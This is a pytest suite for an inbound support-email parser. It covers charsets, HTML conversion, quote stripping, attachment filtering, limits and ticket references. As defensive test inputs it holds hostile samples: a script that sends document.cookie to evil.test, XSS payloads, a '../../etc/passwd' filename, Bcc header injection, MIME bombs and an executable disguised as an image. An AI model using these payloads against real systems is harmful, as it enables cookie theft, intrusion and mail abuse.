"""Inbound support email: otomat.support.mail_in.parse_email on real-world and hostile
messages, built byte by byte (no database)."""

from __future__ import annotations

import base64
import contextlib
import quopri
import random

import pytest

from otomat.support import mail_in
from otomat.support.mail_in import (
    MailError,
    html_to_text,
    parse_email,
    safe_filename,
    sniff_type,
    strip_quoted,
    ticket_reference,
)

PNG_BYTES = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(64)
PDF_BYTES = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n%%EOF\n"
EXE_BYTES = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(200)


def message(body: str | bytes, *headers: str, content_type: str = "text/plain; charset=utf-8"):
    """Raw CRLF bytes of a simple message; ``headers`` replace the defaults they name."""
    defaults = {
        "From": "Alice Anders <Alice@Example.com>",
        "To": "support@otomat.test",
        "Subject": "Help",
        "Message-ID": "<m1@example.com>",
        "MIME-Version": "1.0",
        "Content-Type": content_type,
    }
    for header in headers:
        name, _, value = header.partition(":")
        defaults[name] = value.strip()
    head = "".join(f"{k}: {v}\r\n" for k, v in defaults.items() if v)
    body_bytes = body.encode() if isinstance(body, str) else body
    return head.encode() + b"\r\n" + body_bytes


def multipart(subtype: str, *parts: bytes, boundary: str = "b0undary") -> bytes:
    """The body of a multipart/<subtype> whose parts are raw (headers + body) bytes."""
    out = b"".join(b"--" + boundary.encode() + b"\r\n" + p + b"\r\n" for p in parts)
    return out + b"--" + boundary.encode() + b"--\r\n"


def part(content_type: str, body: bytes, *headers: str) -> bytes:
    head = f"Content-Type: {content_type}\r\n" + "".join(f"{h}\r\n" for h in headers)
    return head.encode() + b"\r\n" + body


def attachment(filename: str, content_type: str, data: bytes) -> bytes:
    return part(
        content_type,
        base64.encodebytes(data),
        "Content-Transfer-Encoding: base64",
        f'Content-Disposition: attachment; filename="{filename}"',
    )


def with_parts(*parts: bytes, subtype: str = "mixed", headers: tuple[str, ...] = ()) -> bytes:
    return message(
        multipart(subtype, *parts),
        *headers,
        content_type=f'multipart/{subtype}; boundary="b0undary"',
    )


# --- text, charsets and encodings --------------------------------------------------------------

POLISH = "Zażółć gęślą jaźń — płatność nie działa, proszę o pomoc."
INDONESIAN = "Selamat pagi, pembayaran saya gagal. Mohon bantuannya, terima kasih!"


def test_multipart_alternative_polish_quoted_printable_prefers_plain():
    plain = part(
        "text/plain; charset=utf-8",
        quopri.encodestring(POLISH.encode()),
        "Content-Transfer-Encoding: quoted-printable",
    )
    html = part(
        "text/html; charset=utf-8",
        base64.encodebytes(f"<p><b>HTML</b> {POLISH}</p>".encode()),
        "Content-Transfer-Encoding: base64",
    )
    subject = "=?UTF-8?B?" + base64.b64encode("Płatność — błąd".encode()).decode() + "?="
    parsed = parse_email(
        with_parts(plain, html, subtype="alternative", headers=(f"Subject: {subject}",))
    )
    assert parsed.text == POLISH
    assert parsed.subject == "Płatność — błąd"
    assert parsed.sender == "alice@example.com"
    assert parsed.sender_name == "Alice Anders"


def test_multipart_alternative_indonesian_base64():
    plain = part(
        "text/plain; charset=UTF-8",
        base64.encodebytes(INDONESIAN.encode()),
        "Content-Transfer-Encoding: base64",
    )
    html = part("text/html; charset=UTF-8", f"<div>{INDONESIAN}</div>".encode())
    parsed = parse_email(with_parts(plain, html, subtype="alternative"))
    assert parsed.text == INDONESIAN


def test_iso_8859_2_body_and_subject():
    text = "Dzień dobry, nie mogę zalogować się do panelu. Użytkownik: Łukasz"
    body = quopri.encodestring(text.encode("iso-8859-2"))
    raw = message(
        body,
        "Subject: =?ISO-8859-2?Q?Problem_z_logowaniem_=B3=B1cze?=",
        "Content-Transfer-Encoding: quoted-printable",
        content_type="text/plain; charset=ISO-8859-2",
    )
    parsed = parse_email(raw)
    assert parsed.text == text
    assert parsed.subject == "Problem z logowaniem łącze"


def test_empty_plain_alternative_falls_back_to_html():
    plain = part("text/plain; charset=utf-8", b"  \r\n")
    html = part("text/html; charset=utf-8", "<p>Tylko HTML: zażółć</p>".encode())
    assert parse_email(with_parts(plain, html, subtype="alternative")).text == "Tylko HTML: zażółć"


def test_unknown_or_missing_charset_and_raw_8bit_headers_do_not_break_parsing():
    raw = (
        "From: Łukasz Nowak <lukasz@example.pl>\r\nSubject: Zażółć 8bit\r\n"
        "Content-Type: text/plain; charset=x-no-such-charset\r\n\r\nCiało wiadomości\r\n"
    ).encode()
    parsed = parse_email(raw)
    assert (parsed.sender_name, parsed.subject) == ("Łukasz Nowak", "Zażółć 8bit")
    assert parsed.text == "Ciało wiadomości"
    nul = message("Treść", content_type='text/plain; charset="utf-\x008"')
    assert parse_email(nul).text == "Treść"
    # No charset at all, bytes that are not UTF-8: decoded leniently rather than refused.
    latin = message("Dzień dobry".encode("iso-8859-2"), content_type="text/plain")
    assert parse_email(latin).text.startswith("Dzie")


def test_broken_base64_and_garbage_bytes_are_tolerated():
    body = part(
        "text/plain; charset=utf-8",
        b"SGVsbG8g!!!not base64***",
        "Content-Transfer-Encoding: base64",
    )
    broken = attachment("x.pdf", "application/pdf", b"")[:-2] + b"%%%%"
    parsed = parse_email(with_parts(body, broken, b"\x00\xff\xfe garbage without headers"))
    assert parsed.sender == "alice@example.com"


def test_mutated_messages_raise_nothing_but_mail_error():
    # A small, seeded fuzz: random splices of MIME syntax into real messages (90,000 cases of
    # the same kind found "charset=utf-\\x008" raising ValueError; now fixed).
    seeds = [
        with_parts(
            part("text/plain; charset=utf-8", POLISH.encode()),
            part("text/html", b"<p>x<a href='https://a'>l</a></p>"),
            subtype="alternative",
        ),
        with_parts(
            part("text/plain", b"See"),
            attachment("a.png", "image/png", PNG_BYTES),
            part("message/rfc822", message("inner", "Subject: =?utf-8?q?x=C5=BC?=")),
        ),
    ]
    tokens = [b"\r\n", b";", b"=", b'"', b"<", b"--", b"=?utf-8?q?", b"\x00", b"\xc5", b"(", b"\\"]
    tokens += [b"boundary=", b"charset=", b"filename*0*=", b"Content-Type: message/rfc822\r\n"]
    rng = random.Random(2025)
    for _ in range(500):
        data = bytearray(rng.choice(seeds))
        for _ in range(rng.randint(1, 10)):
            at = rng.randrange(len(data) + 1)
            if rng.random() < 0.6:
                data[at:at] = rng.choice(tokens)
            else:
                del data[at : at + rng.randint(1, 20)]
        with contextlib.suppress(MailError):
            parse_email(bytes(data))


def test_text_is_normalised_and_capped():
    raw = message("Line one   \r\n\r\n\r\n\r\n\tindented\u202eevil\u200b\x07\r\n" + "x" * 60_000)
    text = parse_email(raw).text
    assert text.startswith("Line one\n\n    indentedevil\n")
    assert len(text) == mail_in.MAX_TEXT


# --- HTML ---------------------------------------------------------------------------------------


def test_html_only_mail_becomes_inert_text():
    html = """<html><head><title>t</title><style>body { color: red }</style>
    <script>alert('head')</script></head><body>
    <p>Hello &amp; welcome &lt;friend&gt;,&nbsp;thanks!</p>
    <img src="x" onerror="alert('img')"><svg onload="alert('svg')"><text>svg text</text></svg>
    <p>Read <a href="https://example.com/docs?a=1&amp;b=2">the docs</a>,
    <a href="javascript:alert('js')">click me</a> or mail <a href="mailto:help@otomat.test">help@otomat.test</a>.</p>
    <ul><li>first</li><li>second</li></ul>
    <script>document.location='https://evil.test/?c='+document.cookie</script>
    <div>line<br>break<br/>here</div></body></html>"""
    raw = message(html, content_type="text/html; charset=utf-8")
    text = parse_email(raw).text
    assert "Hello & welcome <friend>, thanks!" in text
    assert (
        "Read the docs (https://example.com/docs?a=1&b=2), click me or mail help@otomat.test."
        in text
    )
    assert "- first\n- second" in text
    assert "line\nbreak\nhere" in text
    for bad in (
        "alert",
        "color: red",
        "javascript",
        "onerror",
        "evil.test",
        "cookie",
        "svg",
        "<img",
    ):
        assert bad not in text


def test_html_unclosed_script_swallows_the_rest_rather_than_leaking_it():
    assert html_to_text("<p>before</p><script>alert(1)<p>after") == "before"
    assert html_to_text("<p>Ok</p><style>p{}</style><noscript>x</noscript>") == "Ok"


def test_html_blockquote_and_gmail_quote_are_removed_as_history():
    html = (
        '<div dir="ltr">Thanks, that fixed it!</div><br><div class="gmail_quote">'
        '<div class="gmail_attr">On Mon, 3 Mar 2025 at 10:00, Otomat Support &lt;support@otomat.test&gt; wrote:<br></div>'
        "<blockquote>Please restart the bot.<br>Regards</blockquote></div>"
    )
    assert parse_email(message(html, content_type="text/html")).text == "Thanks, that fixed it!"
    assert html_to_text(
        "<p>new</p><blockquote><p>old</p><blockquote>older</blockquote></blockquote>"
    ) == ("new\n\n> old\n\n> > older")


@pytest.mark.parametrize(
    "markup",
    [
        pytest.param("<a" * 150_000, id="unclosed-tags"),
        pytest.param("</" * 150_000, id="unclosed-end-tags"),
        pytest.param("<![" * 100_000, id="marked-sections"),
        pytest.param("<!--" * 75_000, id="comments"),
        pytest.param("<a x='>" * 40_000, id="quotes"),
        pytest.param("<p>" * 100_000, id="open-paragraphs"),
    ],
)
def test_html_parser_traps_are_defused(markup):
    # Python 3.11's html.parser alone needs ~10 s for the first of these and minutes at 1 MB;
    # bench/mail_parsing.py measures how long they take now. Here: they end, without markup.
    text = html_to_text(markup)
    assert "<p>" not in text and "<!--" not in text


def test_html_declarations_and_comments_go_and_lone_angle_brackets_stay():
    markup = "<!DOCTYPE html><?xml version='1.0'?><!--[if mso]><p>outlook</p><![endif]-->"
    markup += "<p>1 < 2 and 3 > 2, a<b</p><!-- unclosed <p>hidden</p>"
    assert html_to_text(markup) == "1 < 2 and 3 > 2, a<b"


# --- quoted history -----------------------------------------------------------------------------

NEW = "It works now, thank you.\n\nAlice"


@pytest.mark.parametrize(
    "history",
    [
        "On Mon, 3 Mar 2025 at 10:00, Otomat Support <support@otomat.test> wrote:\n> Try again.\n> Bye",
        # Gmail wraps long attribution lines.
        "On Mon, Mar 3, 2025 at 10:00 AM Otomat Support Team <support@otomat.test>\nwrote:\n> Try again.",
        "W dniu 3.03.2025 o 10:00, Pomoc Otomat pisze:\n> Proszę spróbować ponownie.",
        "pon., 3 mar 2025 o 10:00 Pomoc Otomat <support@otomat.test> napisał(a):\n> Proszę.",
        "Pada tanggal Sen, 3 Mar 2025 pukul 10.00 Dukungan Otomat <support@otomat.test> menulis:\n> Coba lagi.",
        "Pada Sen, 3 Mar 2025 10:00, Dukungan menulis:\n\nCoba lagi tanpa tanda kutip.",
        "-----Original Message-----\nFrom: Otomat Support\nSent: Monday\nSubject: Re: help\n\nTry again.",
        "-----Wiadomość oryginalna-----\nOd: Pomoc\nTreść",
        "________________________________\nFrom: Otomat Support <support@otomat.test>\nSent: Monday, March 3, 2025 10:00\nTo: Alice\n\nTry again.",
        "> Try again.\n> Regards,\n> Support",
    ],
)
def test_quoted_history_is_stripped(history):
    raw = message(f"{NEW}\n\n{history}\n".replace("\n", "\r\n"))
    assert parse_email(raw).text == NEW


def test_interleaved_answers_keep_the_answers():
    text = "> Which version?\n3.2\n> Which OS?\nDebian 12\n"
    assert strip_quoted(text) == "3.2\nDebian 12"


def test_text_that_only_quotes_is_kept_rather_than_emptied():
    assert strip_quoted("> only a quote") == "> only a quote"


def test_ordinary_lines_starting_with_on_are_kept():
    text = "On Monday the bot stopped.\nOn Tuesday it wrote: nothing.\nStill broken."
    assert strip_quoted(text) == text


# --- attachments --------------------------------------------------------------------------------


def test_attachments_accepted_with_sniffed_types():
    raw = with_parts(
        part("text/plain", b"See the files."),
        attachment("screen.png", "image/png", PNG_BYTES),
        attachment("invoice.pdf", "application/octet-stream", PDF_BYTES),  # type from the bytes
        attachment("log.txt", "text/plain", "zażółć log\n".encode()),
    )
    parsed = parse_email(raw)
    assert parsed.text == "See the files."
    assert [(a.filename, a.content_type) for a in parsed.attachments] == [
        ("screen.png", "image/png"),
        ("invoice.pdf", "application/pdf"),
        ("log.txt", "text/plain"),
    ]
    assert parsed.attachments[0].data == PNG_BYTES
    assert parsed.rejected_attachments == []


def test_attachments_rejected_with_reasons_but_the_message_is_kept():
    raw = with_parts(
        part("text/plain", b"Files attached."),
        attachment("a.pdf", "application/pdf", PDF_BYTES),
        attachment("big.pdf", "application/pdf", PDF_BYTES + bytes(3000)),
        attachment("holiday.png", "image/png", EXE_BYTES),  # an .exe dressed as a picture
        attachment("fake.png", "image/png", bytes(range(256)) * 3),  # unrecognisable bytes
        attachment("setup.exe", "application/octet-stream", EXE_BYTES),
        attachment("readme.html", "text/html", b"<script>alert(1)</script>"),  # text, but HTML
        attachment("b.png", "image/png", PNG_BYTES),
        attachment("c.png", "image/png", PNG_BYTES),
    )
    parsed = parse_email(raw, max_attachments=2, max_attachment_bytes=1000)
    assert parsed.text == "Files attached."
    assert [a.filename for a in parsed.attachments] == ["a.pdf", "b.png"]
    reasons = dict(parsed.rejected_attachments)
    assert reasons["big.pdf"] == "too large (3,041 bytes; the limit is 1,000 bytes)"
    assert reasons["holiday.png"] == "file type application/x-msdownload is not accepted"
    assert reasons["fake.png"] == "its content is not the declared image/png"
    assert reasons["setup.exe"] == "file type application/x-msdownload is not accepted"
    assert reasons["readme.html"] == "files ending in .html are not accepted"
    assert reasons["c.png"] == "too many attachments (at most 2 per message)"


def test_allowed_types_can_be_narrowed():
    raw = with_parts(
        part("text/plain", b"x"), attachment("a.zip", "application/zip", b"PK\x03\x04" + bytes(30))
    )
    parsed = parse_email(raw, allowed_types=frozenset({mail_in.PDF}))
    assert parsed.rejected_attachments == [("a.zip", "file type application/zip is not accepted")]


def test_signatures_are_ignored_not_reported():
    raw = with_parts(
        part("text/plain", b"Signed."),
        part(
            "application/pgp-signature",
            b"-----BEGIN PGP SIGNATURE-----",
            'Content-Disposition: attachment; filename="signature.asc"',
        ),
        subtype="signed",
    )
    parsed = parse_email(raw)
    assert (parsed.text, parsed.attachments, parsed.rejected_attachments) == ("Signed.", [], [])


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\alice\\report.pdf", "report.pdf"),
        ("  .hidden  ", "hidden"),
        ("in\x00voice\r\n.pdf", "invoice.pdf"),
        ("photo\u202egnp.exe", "photognp.exe"),  # the bidi override that hides ".exe"
        ('a<b>:"c"|?*.txt', "a_b___c____.txt"),
        ("", "attachment.pdf"),
        ("..", "attachment.pdf"),
    ],
)
def test_safe_filename(name, expected):
    assert safe_filename(name, "application/pdf") == expected


def test_long_filenames_keep_their_extension():
    name = safe_filename("x" * 400 + ".pdf")
    assert len(name) == 150 and name.endswith("x.pdf")
    assert len(safe_filename("y" * 400)) == 150


def test_rfc2231_filename_is_decoded():
    raw = with_parts(
        part("text/plain", b"x"),
        part(
            "application/pdf",
            base64.encodebytes(PDF_BYTES),
            "Content-Transfer-Encoding: base64",
            "Content-Disposition: attachment; filename*=utf-8''faktura%20za%C5%BC%C3%B3%C5%82%C4%87.pdf",
        ),
    )
    assert parse_email(raw).attachments[0].filename == "faktura zażółć.pdf"


def test_sniff_type():
    assert sniff_type(PDF_BYTES) == "application/pdf"
    assert sniff_type(b"GIF89a...") == "image/gif"
    assert sniff_type(b"\xff\xd8\xff\xe0JFIF") == "image/jpeg"
    assert sniff_type(b"PK\x03\x04rest") == "application/zip"
    assert sniff_type("zwykły tekst\n".encode()) == "text/plain"
    assert sniff_type(bytes(range(256))) is None


# --- forwarded messages -------------------------------------------------------------------------


def test_forwarded_message_becomes_text_and_its_attachments_are_kept():
    inner = message(
        multipart(
            "mixed",
            part("text/plain", b"Your invoice is attached."),
            attachment("inv.pdf", "application/pdf", PDF_BYTES),
            boundary="inner",
        ),
        "From: Billing <billing@shop.example>",
        "Subject: Invoice 42",
        "Date: Mon, 3 Mar 2025 10:00:00 +0000",
        content_type='multipart/mixed; boundary="inner"',
    )
    raw = with_parts(part("text/plain", b"Is this invoice right?"), part("message/rfc822", inner))
    parsed = parse_email(raw)
    assert parsed.text.startswith(
        "Is this invoice right?\n\n---------- Forwarded message ----------\n"
    )
    assert "From: Billing <billing@shop.example>" in parsed.text
    assert "Subject: Invoice 42" in parsed.text
    assert parsed.text.endswith("Your invoice is attached.")
    assert [a.filename for a in parsed.attachments] == ["inv.pdf"]


# --- limits and hostile structure ---------------------------------------------------------------


def test_oversized_message_is_refused_before_parsing(monkeypatch):
    def no_parsing(*args, **kwargs):
        raise AssertionError("parsed a message that was too large")

    monkeypatch.setattr(mail_in.BytesParser, "parsebytes", no_parsing)
    raw = message(b"x" * (20 * 1024 * 1024))
    with pytest.raises(MailError, match=r"too large \(20\.0 MB; the limit is 10\.0 MB\)"):
        parse_email(raw)


def nested(depth: int) -> bytes:
    body = b"Content-Type: text/plain\r\n\r\ndeep\r\n"
    for level in reversed(range(depth)):
        boundary = f"=_{level}_x".encode()  # no boundary is a prefix of another
        body = (
            b'Content-Type: multipart/mixed; boundary="' + boundary + b'"\r\n\r\n'
            b"--" + boundary + b"\r\n" + body + b"\r\n--" + boundary + b"--\r\n"
        )
    return b"From: a@example.com\r\nSubject: bomb\r\nMIME-Version: 1.0\r\n" + body


@pytest.mark.parametrize(
    "raw",
    [
        pytest.param(nested(5000), id="deep-multipart"),
        pytest.param(
            b"From: a@example.com\r\n" + b"Content-Type: message/rfc822\r\n\r\n" * 3000 + b"x",
            id="deep-rfc822",
        ),
        pytest.param(
            with_parts(*[part("text/plain", b"x")] * 20_000),
            id="wide",
        ),
        pytest.param(b"From: a@example.com\r\n" + b"X-A: b\r\n" * 100_000 + b"\r\nx", id="headers"),
    ],
)
def test_mime_bombs_are_refused_before_parsing(raw, monkeypatch):
    def no_parsing(*args, **kwargs):
        raise AssertionError("parsed a MIME bomb")

    monkeypatch.setattr(mail_in.BytesParser, "parsebytes", no_parsing)
    with pytest.raises(MailError, match=r"(too many|more than)"):
        parse_email(raw)


def test_nesting_within_limits_parses_and_deep_parts_are_ignored():
    assert parse_email(nested(10)).text == "deep"
    assert parse_email(nested(mail_in.MAX_DEPTH + 5)).text == ""  # below the walk's depth
    assert parse_email(nested(mail_in.MAX_CONTAINERS)).sender == "a@example.com"


def test_hostile_headers_are_cut_before_the_header_parser_sees_them():
    # The stdlib parser needs ~15 s for a 64 KB From made of comments; only 2,000 characters
    # of it are parsed, and the Subject's 400,000 encoded words are cut the same way
    # (bench/mail_parsing.py measures the time).
    with pytest.raises(MailError, match="From"):
        parse_email(message("x", "From: " + "(c)" * 21_000 + " <a@example.com>"))
    parsed = parse_email(message("x", "Subject: " + "=?utf-8?q?=C5=BC?= " * 400_000))
    assert parsed.subject == "ż" * 300
    # A long To is cut after a whole address, never inside one.
    to = parse_email(message("x", "To: " + ", ".join(f"u{i}@example.com" for i in range(9999)))).to
    assert 100 < len(to) < 9999
    assert to == [f"u{i}@example.com" for i in range(len(to))]


@pytest.mark.parametrize(
    "header",
    [
        "Content-Type: text/plain" + "(c)" * 400,
        "Content-Disposition: attachment; filename=" + "a" * 1000,
    ],
)
def test_overlong_mime_headers_are_refused_before_parsing(header, monkeypatch):
    monkeypatch.setattr(mail_in.BytesParser, "parsebytes", None)  # must not be reached
    raw = with_parts(part("text/plain", b"x"), header.encode() + b"\r\n\r\nbody")
    with pytest.raises(MailError, match="MIME headers that are too long"):
        parse_email(raw)


def test_many_moderate_mime_headers_are_refused_by_their_total():
    header = "Content-Type: text/plain; name=" + "n" * 900
    raw = with_parts(*[header.encode() + b"\r\n\r\nx"] * 40)
    with pytest.raises(MailError, match="MIME headers that are too long"):
        parse_email(raw)


@pytest.mark.parametrize(
    ("raw", "match"),
    [
        (b"", "empty"),
        (b"   \r\n", "empty"),
        (b"this is not an email at all", "no headers"),
        (message("x", "From:"), "From"),
        (message("x", "From: nobody"), "From"),
        (message("x", "From: Alice <alice@>"), "From"),
        (message("x", "From: <a\x00b@example.com>"), "From"),
        (message("x", "From: undisclosed-recipients:;"), "From"),
    ],
)
def test_unusable_messages_are_refused(raw, match):
    with pytest.raises(MailError, match=match):
        parse_email(raw)


# --- headers ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "subject",
    [
        "=?utf-8?q?Hello=0D=0ABcc:_victim@example.com?=",
        "=?utf-8?b?" + base64.b64encode(b"Hello\r\nBcc: victim@example.com\x00").decode() + "?=",
        "Hello\r\n Bcc: victim@example.com",  # folded: a continuation line, not a header
    ],
)
def test_subject_is_one_line(subject):
    parsed = parse_email(message("x", f"Subject: {subject}"))
    assert parsed.subject == "Hello Bcc: victim@example.com"


def test_subject_is_capped():
    assert len(parse_email(message("x", "Subject: " + "word " * 200)).subject) <= 300


def test_recipients_and_threading_ids():
    refs = " ".join(f"<r{i}@example.com>" for i in range(60))
    raw = message(
        "x",
        "To: Support <SUPPORT@otomat.test>, other@example.com",
        "Cc: support@otomat.test, boss@example.com",
        "Message-ID: <CAF+abc=123@mail.gmail.com>",
        "In-Reply-To: <k1@otomat.test> (Otomat's message of Monday)",
        f"References: <k0@otomat.test>\r\n <k1@otomat.test> <k0@otomat.test>\r\n\t{refs}",
    )
    parsed = parse_email(raw)
    assert parsed.to == ["support@otomat.test", "other@example.com", "boss@example.com"]
    assert parsed.message_id == "CAF+abc=123@mail.gmail.com"
    assert parsed.in_reply_to == "k1@otomat.test"
    assert len(parsed.references) == mail_in.MAX_REFERENCES
    assert parsed.references[:2] == ["k0@otomat.test", "r11@example.com"]  # root + newest
    assert parsed.references[-1] == "r59@example.com"


def test_message_id_without_brackets_and_missing_ids():
    parsed = parse_email(message("x", "Message-ID: bare-id@example.com"))
    assert parsed.message_id == "bare-id@example.com"
    parsed = parse_email(message("x", "Message-ID:"))
    assert (parsed.message_id, parsed.in_reply_to, parsed.references) == ("", "", [])


# --- robots -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("headers", "automatic"),
    [
        ((), False),
        (("Auto-Submitted: no",), False),
        (("Auto-Submitted: auto-replied",), True),
        (("Auto-Submitted: auto-generated; owner-email=x@y.z",), True),
        (("Precedence: bulk",), True),
        (("Precedence: junk",), True),
        (("Precedence: list",), True),
        (("Precedence: first-class",), False),
        (("X-Autoreply: yes",), True),
        (("X-Autorespond: vacation",), True),
        (("From: MAILER-DAEMON@mx.example.com",), True),
        (("From: Mail Delivery System <postmaster@example.com>",), True),
        (("From: no-reply@shop.example",), True),
        (("From: bounces+123-abc@em.sendgrid.net",), True),
        (("Return-Path: <>",), True),
        (("X-Failed-Recipients: bob@example.com",), True),
        (("Subject: Automatic reply: Help",), True),
        (("Subject: Odpowiedź automatyczna: Pomoc",), True),
        (("Subject: Out of Office: back Monday",), True),
        (("Subject: My auto-reply bot does not start",), False),
        (("From: replies@example.com",), False),
    ],
)
def test_automatic_mail_is_flagged(headers, automatic):
    assert parse_email(message("x", *headers)).auto_submitted is automatic


def test_delivery_reports_are_automatic():
    raw = with_parts(
        part("text/plain", b"Delivery failed"),
        part("message/delivery-status", b"Status: 5.1.1\r\n"),
        subtype="report",
    )
    assert parse_email(raw).auto_submitted is True


# --- ticket references --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("subject", "expected"),
    [
        ("Re: [T-000123] Printer broken", "T-000123"),
        ("RE: Odp: [t-000045] x", "T-000045"),
        ("[ T-7 ]", "T-7"),
        ("Re: [T-000123] Fwd: [T-000099]", "T-000123"),
        ("T-000123 without brackets", None),
        ("[T-abc] and [X-000123]", None),
        ("", None),
    ],
)
def test_ticket_reference(subject, expected):
    assert ticket_reference(subject) == expected


def test_ticket_reference_with_another_prefix():
    assert ticket_reference("Re: [SUP-42] help", prefix="SUP-") == "SUP-42"
    assert ticket_reference("Re: [T-42] help", prefix="SUP-") is None
